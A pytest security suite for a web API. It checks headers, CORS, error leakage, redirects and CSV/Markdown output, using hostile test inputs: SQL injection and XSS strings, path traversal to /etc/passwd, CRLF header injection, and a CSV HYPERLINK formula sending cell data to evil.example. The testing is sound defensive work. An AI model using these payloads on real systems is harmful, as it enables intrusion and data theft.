"""API8 and ASVS 3, 14: what browsers are told, and what an error gives away."""

from __future__ import annotations

import csv
import io
import re
import uuid

import pytest
import sqlalchemy as sa
from markdown_it import MarkdownIt

from webapp.jobs import service as jobs
from webapp.reports.rendering import to_csv

HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
    "Referrer-Policy": "no-referrer",
    "Cross-Origin-Resource-Policy": "same-origin",
}
LEAKS = re.compile(
    r"traceback|psycopg|sqlalchemy|werkzeug|marshmallow|select |insert |postgres|relation|File \"|\.py\b",
    re.IGNORECASE,
)


@pytest.fixture
def broken(app_of, api, monkeypatch):
    """An app with a bug that raises what the test gives, behind a route of the API."""

    def make(error):
        def fail(*_args, **_kwargs):
            raise error

        monkeypatch.setattr(jobs, "list_jobs", fail)
        return (
            app_of()
            .test_client()
            .get("/api/jobs", headers={"Authorization": f"Bearer {api.tokens['access_token']}"})
        )

    return make


def every_kind(client, api, broken):
    """A response of every status that there is."""
    token = {"Authorization": f"Bearer {api.tokens['access_token']}"}
    job = api.answer(api.start(num_questions=1)["questions"][0]["id"])["job"]
    etag = api.get(f"/api/jobs/{job['id']}").headers["ETag"]
    return [
        client.get("/api/health"),
        api.post("/api/interviews/start", {"job_role": "Backend Engineer", "num_questions": 1}),
        client.get("/", headers={"Accept": "text/html"}),
        api.get(f"/api/jobs/{job['id']}", headers={"If-None-Match": etag}),
        client.post("/api/auth/login", data="{", content_type="application/json"),
        client.get("/api/jobs"),
        client.get("/no-such-path"),
        client.delete("/api/health"),
        api.post("/api/interviews/start", data="x" * 300_000, headers=token),
        client.post("/api/auth/login", data="a=b"),
        client.post("/api/auth/login", json={}),
        broken(RuntimeError("a bug")),
        broken(sa.exc.OperationalError("SELECT 1", {}, Exception("gone"))),
        client.options("/api/jobs"),
        client.head("/api/health"),
    ]


def test_every_kind_of_response_has_the_headers(client, api, broken):
    responses = every_kind(client, api, broken)
    statuses = {response.status_code for response in responses}
    assert statuses >= {200, 201, 302, 304, 400, 401, 404, 405, 413, 415, 422, 500, 503}
    for response in responses:
        for name, value in HEADERS.items():
            assert response.headers[name] == value, response.status
        policy = response.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "frame-ancestors 'none'" in policy
        assert response.headers["X-Request-ID"]
        assert "camera=()" in response.headers["Permissions-Policy"]


def test_every_page_for_browsers_runs_only_its_own_scripts(app, client):
    pages = [
        rule.rule for rule in app.url_map.iter_rules() if "GET" in (rule.methods or ()) and not rule.arguments
    ]
    found = 0
    for path in pages:
        response = client.get(path, headers={"Accept": "text/html"})
        if response.mimetype != "text/html" or response.status_code != 200:
            continue
        found += 1
        parts = [part.split() for part in response.headers["Content-Security-Policy"].split(";")]
        directives = {name: " ".join(values) for name, *values in filter(None, parts)}
        assert directives.get("script-src", "'self'") == "'self'", path
        assert directives["default-src"] in ("'none'", "'self'"), path
        assert (directives["frame-ancestors"], directives["base-uri"]) == ("'none'", "'none'"), path
        assert not re.search(
            r"<script(?![^>]*\bsrc=)[^>]*>|\son[a-z]+=|(src|href)=\"(https?:)?//", response.text
        ), path
    assert found >= 2


def test_answers_of_the_api_are_kept_by_no_cache(api):
    for path in ("/api/auth/me", "/api/interviews", "/api/user/stats"):
        assert api.get(path).headers["Cache-Control"] == "no-store"


def test_production_holds_browsers_to_https(app_of):
    policy = (
        app_of(environment="production").test_client().get("/api/health").headers["Strict-Transport-Security"]
    )
    assert int(re.search(r"max-age=(\d+)", policy)[1]) >= 31_536_000


def test_only_allowed_origins_may_read_and_never_with_cookies(app_of):
    client = app_of(allowed_origins=("https://app.example",)).test_client()
    asked = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}
    for path, status in (("/api/health", 200), ("/api/jobs", 401), ("/api/no-such", 404)):
        good = client.get(path, headers={"Origin": "https://app.example"})
        assert good.status_code == status
        assert good.headers["Access-Control-Allow-Origin"] == "https://app.example"
        assert "Access-Control-Allow-Credentials" not in good.headers
        assert "Origin" in good.headers["Vary"]
    for origin in (
        "https://evil.example",
        "https://app.example.evil.example",
        "https://xapp.example",
        "http://app.example",
        "https://app.example:444",
        "null",
    ):
        for response in (
            client.get("/api/health", headers={"Origin": origin}),
            client.options("/api/jobs", headers={"Origin": origin, **asked}),
        ):
            assert "Access-Control-Allow-Origin" not in response.headers, origin


# --- errors -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "error",
    [
        RuntimeError("password=hunter2 in /srv/app.py"),
        sa.exc.ProgrammingError(
            "SELECT secret FROM users", {"email": "a@b.c"}, Exception('relation "users"')
        ),
        sa.exc.DataError("INSERT INTO responses", {"answer": "my words"}, Exception("invalid byte sequence")),
        sa.exc.OperationalError("SELECT 1", {}, Exception("connection to server at 10.0.0.5 failed")),
        RecursionError("maximum recursion depth exceeded"),
        MemoryError(),
    ],
    ids=lambda error: type(error).__name__,
)
def test_no_failure_of_our_own_tells_a_client_how_we_are_made(broken, error):
    response = broken(error)
    assert response.status_code in (500, 503)
    assert response.content_type == "application/problem+json"
    assert set(response.json) == {"type", "title", "status", "detail", "request_id"}
    assert not LEAKS.search(response.text)
    for words in ("hunter2", "secret", "my words", "10.0.0.5"):
        assert words not in response.text


@pytest.mark.parametrize(
    "text", ["'; DROP TABLE users; --", "1' OR '1'='1", "%' UNION SELECT 1 --", "a\\' b", "${7*7}{{7*7}}"]
)
def test_sql_in_a_text_is_a_text(api, client, text):
    interview = api.start(job_role=text, num_questions=1)
    assert interview["job_role"] == text
    submitted = api.answer(interview["questions"][0]["id"], text)
    assert api.get(f"/api/responses/{submitted['response']['id']}").json["user_answer"] == text
    assert client.post("/api/auth/login", json={"email": text, "password": text}).status_code == 401
    for path in ("/api/jobs", "/api/interviews"):
        assert api.get(path, query_string={"state": text, "status": text, "page": text}).status_code == 422


def test_a_request_that_is_no_http_is_answered_in_the_same_shape_and_not_echoed(service):
    for raw in (
        b"NONSENSE-4711\r\n\r\n",
        b"GET / HTTP/1.1\r\nBad Name-4711: x\r\n\r\n",
        b"GET / HTTP/9.9-4711\r\n\r\n",
    ):
        answer = service.exchange(raw)
        assert answer.startswith(b"HTTP/1.1 400")
        assert b"application/problem+json" in answer
        assert b"nosniff" in answer
        assert b"4711" not in answer
    assert "4711" not in service.log.read_text()


# --- headers and files made of what somebody sent -------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["a\r\nSet-Cookie: x=1", "a\nb", "<script>", "x" * 129, "ünï", "", " ", "a b"]
)
def test_no_header_is_made_of_what_a_client_sent(api, app, value):
    # The test client refuses line breaks as any server does: given to the application itself.
    environ = {"HTTP_X_REQUEST_ID": value, "HTTP_HOST": "evil.example"}
    response = api.get("/api/health", environ_overrides=environ)
    assert re.fullmatch(r"[0-9a-f]{32}", response.headers["X-Request-ID"])
    started = api.post(
        "/api/interviews/start", {"job_role": "a\r\nX-Evil: 1", "num_questions": 1}, environ_overrides=environ
    )
    assert re.fullmatch(r"/api/interviews/[0-9a-f-]{36}", started.headers["Location"])
    report = api.get(f"/api/interviews/{started.json['id']}/report?format=csv")
    assert re.fullmatch(
        r'attachment; filename="interview-[0-9a-f-]{36}\.csv"', report.headers["Content-Disposition"]
    )
    assert not [name for response in (started, report) for name, _ in response.headers if name == "X-Evil"]


@pytest.mark.parametrize(
    "path", ["//evil.example/%2e%2e", "//evil.example", "/api//health", "/\\evil.example", "/api/docs/"]
)
def test_no_redirect_leads_to_another_host(client, path):
    response = client.get("/", headers={"Host": "evil.example"}, environ_overrides={"PATH_INFO": path})
    assert response.status_code == 404 or not re.match(r"(https?:)?//", response.headers.get("Location", ""))


def test_a_browser_is_sent_to_a_path_of_this_host(client):
    location = client.get("/", headers={"Accept": "text/html", "Host": "evil.example"}).headers["Location"]
    assert re.fullmatch(r"/[a-z]+[a-z/]*", location)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠"])
def test_no_cell_of_a_csv_is_a_formula(start):
    formula = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
    question = {
        "order_number": 1, "question_text": formula, "question_type": "technical", "skill_category": formula,
        "status": "ready", "score": 50.0, "user_answer": formula, "feedback": None,
    }  # fmt: skip
    row = next(csv.DictReader(io.StringIO(to_csv({"questions": [question]}), newline="")))
    for column in ("question_text", "skill_category", "user_answer"):
        assert row[column] == "'" + formula


@pytest.mark.parametrize(
    "name", ["../../settings.py", "..%2f..%2fsettings.py", "/etc/passwd", "....//settings.py"]
)
def test_no_file_outside_the_assets_is_served(client, name):
    for base in ("/api/docs/assets/", "/api/docs/static/", "/app/static/", "/app/"):
        response = client.get(base + name)
        assert response.status_code in (404, 405)
        assert "SECRET_KEY" not in response.text


def test_the_text_of_a_report_is_never_html(api):
    interview = api.start(job_role="<img src=x onerror=alert(1)>", num_questions=1)
    api.answer(interview["questions"][0]["id"], "<script>alert(1)</script> [x](javascript:alert(1))")
    for kind in ("json", "md", "csv"):
        response = api.get(f"/api/interviews/{interview['id']}/report?format={kind}")
        assert response.mimetype in ("application/json", "text/markdown", "text/csv")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        if kind == "md":
            # Rendered by a parser that lets HTML through.
            html = MarkdownIt("commonmark", {"html": True}).render(response.text)
            assert not re.search(r"<(img|script|a)\b", html)
            assert "&lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(1))" in html


def test_an_unhandled_id_is_a_404_of_the_same_shape(api):
    for path in (
        f"/api/jobs/{uuid.uuid4()}",
        "/api/jobs/1",
        "/api/jobs/%00",
        "/api/interviews/../../etc/passwd",
    ):
        response = api.get(path)
        assert response.status_code == 404
        assert response.content_type == "application/problem+json"
